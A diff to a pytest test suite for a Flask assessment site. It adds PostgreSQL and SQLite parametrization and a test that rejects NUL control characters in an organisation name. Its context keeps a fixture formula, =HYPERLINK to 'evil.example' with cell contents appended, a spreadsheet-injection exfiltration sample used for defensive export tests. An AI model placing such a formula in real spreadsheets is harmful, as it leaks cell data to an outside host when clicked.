@@ -22,6 +22,9 @@ CONTOSO: dict[str, Any] = yaml.safe_load((ROOT / "examples" / "contoso.yaml").re
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 KINDS = ("csv", "xlsx", "markdown", "pdf", "json")
 
+# Both databases: PostgreSQL refuses NUL in text columns, so what is stored there matters.
+pytestmark = pytest.mark.parametrize("database_url", ["sqlite", "postgresql"], indirect=True)
+
 
 def _token(app: Flask, username: str) -> dict[str, str]:
     store = services(app).store
@@ -182,6 +185,16 @@ def test_the_site_refuses_control_characters_in_titles_and_answers(anna: Browser
     )
     assert response.status_code == 200
     assert "must not contain control characters (U+0001)" in response.get_data(as_text=True)
+
+    # A new assessment takes its title from the organisation's name, but never such a name.
+    draft = int(anna.post("/assessments", {"title": ""}).headers["Location"].split("/")[2])
+    response = anna.post(
+        f"/assessments/{draft}/organisation",
+        {"name": "Fabri\x00kam", "rollout_start": "2027-07", "language": "en"},
+    )
+    assert response.status_code == 200
+    assert "must not contain control characters (U+0000)" in response.get_data(as_text=True)
+    assert "\x00" not in anna.get("/").get_data(as_text=True)
 
     imported = anna.post(
         "/assessments/import",
